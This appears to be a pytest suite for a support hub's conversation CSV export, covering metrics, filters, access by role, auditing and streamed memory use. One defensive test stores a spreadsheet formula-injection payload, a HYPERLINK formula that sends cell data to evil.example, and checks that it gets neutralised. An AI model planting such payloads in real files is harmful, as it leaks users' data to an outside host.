"""CSV export of conversations with their metrics: GET /api/v1/exports/conversations.csv and the
dashboard's "Download CSV" link. The metrics are those of GET /api/v1/stats (hub.stats)."""

from __future__ import annotations

import csv
import gc
import html
import io
import re
import statistics
import tracemalloc
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from sqlalchemy import insert, select

from hub.exports import COLUMNS, PAGE
from hub.models import AuditLog, Connector, Contact, Conversation, Identity, Message, User, now
from tests.web.conftest import AGENT, add_users
from tests.web.test_dashboard import SEED, seed
from tests.web.test_web_unit import do_login

EXPORT = "/api/v1/exports/conversations.csv"


def parse(body: bytes) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(body.decode("utf-8"), newline=""))
    header = next(reader)
    assert tuple(header) == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


def day_range(days: int = 90) -> str:
    t = now()
    return f"from={(t - timedelta(days=days)).date().isoformat()}&to={t.date().isoformat()}"


def user_token(hub, email: str, role: str) -> str:
    """A token of a new user with that role (no password: a token is all it uses). A role outside
    admin/agent is written straight to the row, as a future role or a hand edit would leave it."""
    from hub.auth import create_token

    with hub.rt.db.session() as s:
        s.add(User(email=email, role=role, name=email.split("@")[0]))
        s.flush()
        return create_token(s, email)


def add_extras(hub) -> None:
    """On top of the dashboard's seed: messages in the first conversation, an assignee on the second."""
    with hub.rt.db.session() as s:
        convs = s.scalars(select(Conversation).order_by(Conversation.id)).all()
        agent = s.scalar(select(User).where(User.email == AGENT[0]))
        assert agent is not None
        convs[1].assignee_id = agent.id
        for n in range(3):
            s.add(Message(conversation_id=convs[0].id, connector_id=convs[0].connector_id, external_id=f"m{n}",
                          identity_id=convs[0].identity_id, sent_at=convs[0].created_at, text=f"hello {n}"))


@pytest.fixture
def seeded(make_hub, db_url):
    h = make_hub(database_url=db_url)
    add_users(h)
    seed(h)
    add_extras(h)
    return h


def test_export_has_every_conversation_with_the_dashboard_metrics(seeded):
    """Same rows and same figures as GET /api/v1/stats over the same range, on SQLite and PostgreSQL."""
    t = now()
    start, end = (t - timedelta(days=90)).date(), t.date()
    r = seeded.api("GET", f"{EXPORT}?from={start}&to={end}")
    assert r.status_code == 200, r.get_data(as_text=True)
    assert r.mimetype == "text/csv" and r.mimetype_params.get("charset") == "utf-8"
    assert r.headers["Content-Disposition"] == f'attachment; filename="conversations_{start}_{end}.csv"'
    assert r.headers["Cache-Control"] == "no-store"
    rows = parse(r.data)
    assert len(rows) == len(SEED)
    # oldest first, the seed's subjects "case <i>"
    assert [row["created_at"] for row in rows] == sorted(row["created_at"] for row in rows)
    by_case = {row["subject"]: row for row in rows}
    assert set(by_case) == {f"case {i}" for i in range(len(SEED))}

    bounds = urlencode({"since": f"{start}T00:00:00+00:00", "until": t.isoformat()})
    stats = seeded.api("GET", f"/api/v1/stats?{bounds}").get_json()
    assert stats["conversations"] == len(rows)
    first = [int(row["first_response_seconds"]) / 60 for row in rows if row["first_response_seconds"]]
    resolution = [int(row["resolution_seconds"]) / 60 for row in rows if row["resolution_seconds"]]
    scores = [int(row["csat_score"]) for row in rows if row["csat_score"]]
    assert round(statistics.median(first), 1) == stats["first_response"]["median_minutes"]
    assert round(statistics.median(resolution), 1) == stats["resolution"]["median_minutes"]
    assert round(statistics.fmean(scores), 2) == stats["csat"]["average"]
    assert len(first) == stats["first_response"]["count"] and len(resolution) == stats["resolution"]["count"]

    for i, (medium, _ago, cat, lang, prio, fr, res, score, *_rest) in enumerate(SEED):
        row = by_case[f"case {i}"]
        assert (row["connector"], row["medium"], row["customer_name"]) == ("web", medium, f"Customer {i}")
        assert (row["category"], row["language"], row["priority"]) == (cat, lang, prio)
        assert row["status"] == ("resolved" if res else "open")
        assert row["first_response_seconds"] == (str(fr * 60) if fr else "")
        assert row["resolution_seconds"] == (str(res * 60) if res else "")
        assert bool(row["resolved_at"]) == bool(res) and bool(row["first_response_at"]) == bool(fr)
        assert row["csat_score"] == (str(score) if score else "")
        assert row["sla_state"] in ("met", "ok", "at_risk", "breached")
    # the SLA state is the one the API gives each conversation (hub.sla.states)
    api_states = {c["subject"]: c["sla_state"] for c in seeded.api("GET", "/api/v1/conversations?limit=200").get_json()["items"]}
    assert {k: row["sla_state"] for k, row in by_case.items()} == api_states
    assert by_case["case 0"]["messages_count"] == "3" and by_case["case 2"]["messages_count"] == "0"
    assert by_case["case 1"]["assignee"] == AGENT[0] and by_case["case 0"]["assignee"] == ""

    with seeded.rt.db.read() as s:
        audit = s.scalars(select(AuditLog).where(AuditLog.action == "export")).all()
    assert [(a.actor, a.target_type, a.target_id) for a in audit] == [("agent@example.com", "conversations", f"{start}..{end}")]
    assert audit[0].details == {"format": "csv", "from": str(start), "to": str(end)}

    # filters, as in GET /api/v1/conversations
    def subjects(query: str) -> set[str]:
        r = seeded.api("GET", f"{EXPORT}?{day_range()}&{query}")
        assert r.status_code == 200, r.get_data(as_text=True)
        return {row["subject"] for row in parse(r.data)}

    def expect(pred) -> set[str]:
        return {f"case {i}" for i, row in enumerate(SEED) if pred(row)}

    assert subjects("medium=sms") == expect(lambda row: row[0] == "sms")
    assert subjects("priority=urgent,high") == expect(lambda row: row[4] in ("urgent", "high"))
    assert subjects("status=resolved") == expect(lambda row: row[6] is not None)
    assert subjects("category=general_questions&language=fr") == {"case 4"}
    assert subjects("connector=web") == expect(lambda row: True)
    assert subjects("status=all") == expect(lambda row: True)
    assert subjects("medium=SMS") == expect(lambda row: row[0] == "sms")  # media, categories and languages in any case
    with seeded.rt.db.read() as s:
        flagged = set(s.scalars(select(Conversation.subject).where(Conversation.security_flag.is_(True))))
    assert flagged and subjects("security=true") == flagged
    assert subjects("security=false") == expect(lambda row: True) - flagged
    assert subjects("team=none") == expect(lambda row: True)
    # the range: whole UTC days, both ends included
    t = now()
    r = seeded.api("GET", f"{EXPORT}?from={(t - timedelta(days=7)).date()}&to={t.date()}")
    created = [(t - timedelta(days=row[1], minutes=30 + i)).date() for i, row in enumerate(SEED)]
    assert len(parse(r.data)) == sum(1 for d in created if d >= (t - timedelta(days=7)).date())
    with seeded.rt.db.read() as s:
        audit = s.scalars(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id)).all()
    assert len(audit) == 12  # one entry per export
    assert audit[4].details == {"format": "csv", "from": day_range().split("&")[0][5:], "to": str(t.date()),
                                "category": "general_questions", "language": "fr"}


INVALID = [
    ("", "from"),
    ("from=2026-01-01", "to"),
    ("from=2026-01-31&to=2026-01-01", "to"),
    ("from=2025-01-01&to=2026-01-02", "to"),  # more than 366 days
    ("from=2026-W01-1&to=2026-01-02", "from"),
    ("from=20260101&to=2026-01-02", "from"),
    ("from=2026-01-01&to=2026-01-02&status=bogus", "status"),
    ("from=2026-01-01&to=2026-01-02&priority=normal,nope", "priority"),
    ("from=2026-01-01&to=2026-01-02&category=a%00b", "category"),
    # #21 fresh eyes: these exported nothing, or everything, instead of saying what was wrong
    ("from=2026-01-01&to=2026-01-02&connector=nope", "connector"),
    ("from=2026-01-01&to=2026-01-02&medium=pigeon", "medium"),
    ("from=2026-01-01&to=2026-01-02&category=no_such_category", "category"),
    ("from=2026-01-01&to=2026-01-02&team=no-such-team", "team"),
    ("from=2026-01-01&to=2026-01-02&security=maybe", "security"),
    ("from=2026-01-01&to=2026-01-02&q=refund", "q"),
    ("from=9999-12-31&to=9999-12-31", "to"),  # was a 500 (the day after overflowed)
]


def test_an_agent_or_admin_role_and_a_valid_query_are_required(hub):
    for query, field in INVALID:
        r = hub.api("GET", f"{EXPORT}?{query}")
        assert r.status_code == 400 and r.get_json()["field"] == field, query
    url = f"{EXPORT}?{day_range()}"
    assert hub.client.get(url).status_code == 401
    assert hub.client.get(url, headers={"Authorization": "Bearer nope"}).status_code == 401
    assert hub.api("GET", url, token=user_token(hub, "viewer@example.com", "viewer")).status_code == 403
    assert hub.api("GET", url, token=user_token(hub, "agent2@example.com", "agent")).status_code == 200
    assert hub.api("GET", url).status_code == 200  # the admin
    with hub.rt.db.read() as s:
        actors = s.scalars(select(AuditLog.actor).where(AuditLog.action == "export").order_by(AuditLog.id)).all()
    assert actors == ["agent2@example.com", "agent@example.com"]  # refused requests export nothing


def test_cells_that_start_like_formulas_are_neutralised(hub):
    hub.add_connector("web", "api", secret="export-secret-123")
    evil = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1 555 0100", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd", "a;=1+1", 'say "hi", ok', "ünïcödé ✓"]
    with hub.rt.db.session() as s:
        conn = s.scalar(select(Connector).where(Connector.name == "web"))
        assert conn is not None
        for i, text in enumerate(evil):
            contact = Contact(name=text)
            s.add(contact)
            s.flush()
            ident = Identity(contact_id=contact.id, medium="api", address=f"api:{i}", display_name=text)
            s.add(ident)
            s.flush()
            s.add(Conversation(connector_id=conn.id, contact_id=contact.id, identity_id=ident.id, thread_key=f"e{i}",
                               token=f"etok{i}", subject=text, category=text[:60], created_at=now() - timedelta(minutes=len(evil) - i)))
    r = hub.api("GET", f"{EXPORT}?{day_range(1)}")
    rows = parse(r.data)
    assert [row["subject"] for row in rows] == [
        "'" + t if t[0] in "=+-@\t\r" else t for t in evil]
    assert [row["customer_name"] for row in rows] == [row["subject"] for row in rows]
    assert all(row["category"].startswith("'") for row in rows[:6])
    # every text cell is quoted: a ";" inside one never starts a new cell in a spreadsheet
    text = r.data.decode("utf-8")
    assert '"a;=1+1"' in text and '"say ""hi"", ok"' in text and "ünïcödé ✓" in text
    assert re.search(r'^\d+,"\d{4}-', text.splitlines()[1])  # numbers bare, text quoted


def bulk_seed(hub, n: int, days: int) -> None:
    """n conversations spread evenly over the last ``days`` days, each with one message (Core inserts)."""
    hub.add_connector("web", "api", secret="export-secret-123")
    t = now()
    with hub.rt.db.session() as s:
        conn = s.scalar(select(Connector).where(Connector.name == "web"))
        assert conn is not None
        contact = Contact(name="Bulk Customer")
        s.add(contact)
        s.flush()
        ident = Identity(contact_id=contact.id, medium="sms", address="sms:+15550100", display_name="Bulk")
        s.add(ident)
        s.flush()
        step = timedelta(days=days) / n
        s.execute(insert(Conversation), [
            {"connector_id": conn.id, "contact_id": contact.id, "identity_id": ident.id, "thread_key": f"b{i}",
             "token": f"btok{i}", "subject": f"bulk {i} " + "x" * 300, "status": "resolved", "priority": "normal",
             "tags": [], "entities": [], "extra": {"csat": {"score": 1 + i % 5}},
             "sla": {"first_response_due": (t - step * i + timedelta(hours=1)).isoformat()},
             "created_at": t - step * (i + 1), "first_response_at": t - step * (i + 1) + timedelta(minutes=5),
             "resolved_at": t - step * (i + 1) + timedelta(minutes=50), "last_message_at": t - step * (i + 1)}
            for i in range(n)])
        ids = s.scalars(select(Conversation.id)).all()
        s.execute(insert(Message), [
            {"conversation_id": cid, "connector_id": conn.id, "external_id": f"bm{cid}", "sent_at": t, "text": "hi",
             "redactions": [], "entities": [], "extra": {}, "history": []} for cid in ids])


def streamed_export(hub, query: str) -> tuple[int, int, int, int]:
    """(rows, bytes, chunks, peak traced bytes) of an export read chunk by chunk, never kept whole."""
    r = hub.client.get(f"{EXPORT}?{query}", headers={"Authorization": f"Bearer {hub.token}"}, buffered=False)
    assert r.status_code == 200 and r.is_streamed
    gc.collect()
    tracemalloc.start()
    try:
        rows = size = chunks = 0
        for chunk in r.iter_encoded():
            size += len(chunk)
            rows += chunk.count(b"\r\n")
            chunks += 1
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        r.close()
    return rows - 1, size, chunks, peak


def test_a_large_export_is_streamed_in_pages_with_small_memory(hub):
    n, days = 5000, 10
    bulk_seed(hub, n, days)
    t = now()
    everything = f"from={(t - timedelta(days=days + 1)).date()}&to={t.date()}"
    two_days = f"from={(t - timedelta(days=5)).date()}&to={(t - timedelta(days=4)).date()}"  # two whole days: ~1,000 rows
    streamed_export(hub, two_days)  # warm-up: compiled queries, caches
    # tracemalloc counts every thread of the process; a straggler thread of an earlier test in the
    # same worker can add a few MB to one reading, never take any away: the least of three is the export's
    small = [streamed_export(hub, two_days) for _ in range(3)]
    big = [streamed_export(hub, everything) for _ in range(3)]
    small_rows, small_peak = small[0][0], min(x[3] for x in small)
    rows, size, chunks = big[0][:3]
    peak = min(x[3] for x in big)
    assert rows == n and chunks == 1 + -(-n // PAGE)  # the header, then one chunk per page
    assert abs(small_rows - 2 * n / days) <= 2
    # the whole export is about 2.5 MB; reading it holds about one page (measured: ~4 MB traced,
    # ORM rows included), the same for 5,000 rows as for one page's worth: nothing grows with the rows
    assert size > 2_000_000
    assert peak < 8_000_000, peak
    assert peak < small_peak * 1.3, (peak, small_peak)


def test_dashboard_links_to_the_csv_of_its_period(hub):
    add_users(hub)
    seed(hub)
    c = hub.app.test_client()
    assert do_login(c, AGENT).status_code == 302
    page = c.get("/inbox/dashboard?days=7").get_data(as_text=True)
    m = re.search(r'<a href="([^"]+)" id="export-csv" download>Download CSV</a>', page)
    assert m, "no Download CSV link"
    href = html.unescape(m.group(1))
    t = now()
    assert href == f"{EXPORT}?from={(t - timedelta(days=7)).date()}&to={t.date()}"
    r = c.get(href)  # the signed-in session is enough
    assert r.status_code == 200 and r.headers["Content-Disposition"].startswith("attachment;")
    assert {row["subject"] for row in parse(r.data)} == {
        f"case {i}" for i, row in enumerate(SEED) if (t - timedelta(days=row[1], minutes=30 + i)).date() >= (t - timedelta(days=7)).date()}
